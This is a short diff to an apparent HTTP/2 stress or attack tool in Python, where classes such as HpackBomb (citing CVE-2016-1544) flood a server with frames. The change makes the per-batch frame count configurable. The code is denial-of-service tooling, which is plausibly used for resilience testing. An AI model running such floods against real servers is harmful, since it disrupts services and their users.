@@ -139,6 +139,7 @@ class Http2Attack(Attack):
     """Frames without end; what the server says last is counted."""
 
     opening = settings(enable_push=0)
+    at_once = 1000
 
     async def attack(self, reader, writer):
         writer.write(PREFACE + self.opening)
@@ -148,7 +149,7 @@ class Http2Attack(Attack):
             stream = 1
             while not listening.done():
                 stream = self.send(writer, stream)
-                self.seen["frames"] += 1000
+                self.seen["frames"] += self.at_once
                 await writer.drain()
                 await asyncio.sleep(0)
                 if stream > 2**31 - 10_000:
@@ -206,6 +207,8 @@ class Ping(Http2Attack):
 
 class HpackBomb(Http2Attack):
     """A large field, kept in the table and named thousands of times (CVE-2016-1544)."""
+
+    at_once = 10
 
     def send(self, writer, stream):
         numbers = range(stream, stream + 20, 2)
